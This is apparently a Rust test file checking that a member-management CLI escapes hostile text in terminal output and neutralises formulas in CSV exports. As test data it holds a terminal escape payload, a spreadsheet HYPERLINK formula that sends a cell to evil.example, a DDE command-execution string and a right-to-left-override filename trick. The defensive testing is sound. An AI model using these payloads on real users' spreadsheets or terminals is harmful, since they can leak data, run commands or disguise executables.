//! What mot shows people, run as a user would: text from outside never acts
//! on the terminal or the spreadsheet it is shown in, and a CSV export still
//! re-imports to the same members.

use predicates::prelude::*;
use serde_json::Value;

use crate::common::Mot;

/// Clears the screen, paints "ALL CLEAR" and retitles the terminal window.
const TERMINAL_ATTACK: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}[32mALL CLEAR\u{1b}]0;pwned\u{7}";

/// The first character a terminal would obey, or that hides or reorders text.
fn hidden(s: &str) -> Option<char> {
    s.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    })
}

fn stdout(mot: &Mot, args: &[&str]) -> String {
    let out = mot.cmd(args).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn members(mot: &Mot) -> Vec<[String; 4]> {
    mot.members_json()
        .into_iter()
        .map(|m| ["name", "phone", "role", "location"].map(|k| m[k].as_str().unwrap().to_string()))
        .collect()
}

#[test]
fn csv_export_never_starts_a_cell_with_a_formula_and_reimports_identically() {
    let a = Mot::new();
    a.add(
        "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click me\")",
        "07700 900001",
        "=1+1",
        "Riverside Pharmacy",
    );
    a.cmd([
        "members",
        "add",
        "--name=+cmd|' /C calc'!A0",
        "--phone=07700 900002",
        "--role=-2+3",
        "--location=@SUM(1+1)",
    ])
    .assert()
    .success();
    a.add(
        "'=quoted already",
        "07700 900003",
        "O'Brien's",
        "Hill Surgery",
    );

    let export = stdout(&a, &["members", "list", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(export.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    assert_eq!(cells, 3 * 8);
    assert!(export.contains("'+447700900001"), "{export}");

    let b = Mot::new();
    let file = b.write("export.csv", &export);
    b.cmd(["members", "import"]).arg(&file).assert().success();
    assert_eq!(members(&a), members(&b));
}

#[test]
fn inbox_shows_a_hostile_message_escaped_in_table_and_csv_and_exact_in_json() {
    let mot = Mot::new();
    mot.sql()
        .execute(
            "INSERT INTO inbound (wa_message_id, phone, type, text, action, at, received_at)
             VALUES ('wamid.TESTESC0001', '+447700900009', ?1, ?2, 'message',
                     '2026-11-01T10:00:00Z', '2026-11-01T10:00:01Z')",
            [
                format!("text{TERMINAL_ATTACK}"),
                format!("invoice\u{202e}fdp.exe {TERMINAL_ATTACK}"),
            ],
        )
        .unwrap();
    for format in ["table", "csv"] {
        let out = stdout(&mot, &["inbox", "--format", format]);
        assert_eq!(hidden(&out), None, "inbox --format {format}: {out:?}");
        assert!(out.contains("invoice<U+202E>fdp.exe"), "{out}");
        assert!(out.contains("text\\u{1b}[2J"), "the type too: {out}");
    }
    let json: Value = serde_json::from_str(&stdout(&mot, &["inbox", "--format", "json"])).unwrap();
    assert_eq!(
        json[0]["text"],
        format!("invoice\u{202e}fdp.exe {TERMINAL_ATTACK}")
    );
}

#[test]
fn broadcast_reports_escape_status_errors_and_pause_reasons() {
    let mot = Mot::new();
    mot.add("Asha Patel", "07700 900001", "Pharmacist", "Riverside");
    mot.sql()
        .execute_batch(&format!(
            "INSERT INTO broadcasts (id, kind, body, template, language, params, audience,
                                     created_by, created_at, not_after, state, pause_reason)
             VALUES (1, 'notice', 'Supply note {TERMINAL_ATTACK}', 'mot_notice', 'en_GB', '[]',
                     '{{}}', 'test-pharmacist', '2026-11-01T10:00:00Z', '2026-11-02T10:00:00Z',
                     'paused', 'Meta said: {TERMINAL_ATTACK}');
             INSERT INTO deliveries (broadcast_id, member_id, phone, state, error_code,
                                     error_class, error_message, updated_at)
             VALUES (1, 1, '+447700900001', 'failed', 131026, 'recipient',
                     'Message undeliverable: {TERMINAL_ATTACK}', '2026-11-01T10:00:05Z');"
        ))
        .unwrap();
    for args in [
        &["report", "broadcast", "1"][..],
        &["report", "broadcast", "1", "--format", "csv"],
        &["broadcasts", "list"],
        &["broadcasts", "list", "--format", "csv"],
        &["broadcasts", "show", "1"],
    ] {
        let out = stdout(&mot, args);
        assert_eq!(hidden(&out), None, "{args:?}: {out:?}");
        assert!(out.contains("\\u{1b}[32mALL CLEAR"), "{args:?}: {out}");
    }
}

#[test]
fn members_list_escapes_a_hostile_number_and_name_already_on_file() {
    let mot = Mot::new();
    // As a `user_changed_number` could store it, and as an older mot kept a name.
    mot.sql()
        .execute(
            "INSERT INTO members (name, phone, role, location, status, consent_at,
                                  consent_source, consent_by, created_at, updated_at)
             VALUES (?1, ?2, 'Pharmacist', 'Riverside', 'active', '2026-11-01T10:00:00Z',
                     'manual', 'test', '2026-11-01T10:00:00Z', '2026-11-01T10:00:00Z')",
            ["Eve\u{202e}\u{200b}", &format!("+44{TERMINAL_ATTACK}")],
        )
        .unwrap();
    for args in [
        &["members", "list"][..],
        &["members", "list", "--format", "csv"],
        &["members", "show", "1"],
    ] {
        let out = stdout(&mot, args);
        assert_eq!(hidden(&out), None, "{args:?}: {out:?}");
        assert!(out.contains("Eve<U+202E><U+200B>"), "{args:?}: {out}");
    }
}

#[test]
fn names_entered_lose_bidi_and_zero_width_characters() {
    let mot = Mot::new();
    mot.add(
        "Asha\u{200b} \u{2066}Patel\u{2069}",
        "07700 900001",
        "Pharm\u{202e}acist",
        "Riverside",
    );
    mot.cmd(["members", "import", "-"])
        .write_stdin("name,phone,role,location\nBen\u{feff} Okafor,07700 900002,GP\u{200d},Hill\n")
        .assert()
        .success();
    let names: Vec<[String; 4]> = members(&mot);
    assert_eq!(names[0][0], "Asha Patel");
    assert_eq!(names[0][2], "Pharmacist");
    assert_eq!(names[1][0], "Ben Okafor");
    assert_eq!(names[1][2], "GP");
}

#[test]
fn import_errors_that_quote_the_file_are_escaped() {
    let mot = Mot::new();
    let out = mot
        .cmd(["members", "import", "-"])
        .write_stdin(format!(
            "name{TERMINAL_ATTACK},phone,role\nA,07700 900001,R\n"
        ))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(hidden(&stderr), None, "{stderr:?}");
    assert!(stderr.contains("no column for name"), "{stderr}");
    // A header cell with an escape sequence is not a header word: the first
    // line is not repeated at all (issue 18), let alone unescaped.
    assert!(stderr.contains("does not look like a header"), "{stderr}");
    assert!(!stderr.contains("pwned"), "{stderr}");

    let out = mot
        .cmd(["members", "import", "-"])
        .write_stdin(format!(
            "name,phone,role,location\nA,07700 900001,R,L\u{1b}[2J\nB,+1 {TERMINAL_ATTACK},R,L\n"
        ))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(hidden(&stdout), None, "{stdout:?}");
    assert!(stdout.contains("line 2, column location"), "{stdout}");
    assert!(stdout.contains("line 3, column phone"), "{stdout}");
}

#[test]
fn an_unterminated_quote_in_an_import_is_reported_with_its_line() {
    let mot = Mot::new();
    mot.cmd(["members", "import", "-"])
        .write_stdin(
            "name,phone,role,location\n\
             Asha Patel,07700 900001,Pharmacist,Riverside\n\
             \"Ben Okafor,07700 900002,GP practice manager,Hill Surgery\n\
             Cara Jones,07700 900003,Practice nurse,Hill Surgery\n",
        )
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "invalid: line 3: a quote (\") opened on line 3 is never closed",
        ))
        .stdout(predicate::str::contains("empty").not());
    assert!(mot.members_json().is_empty(), "all or nothing");
}
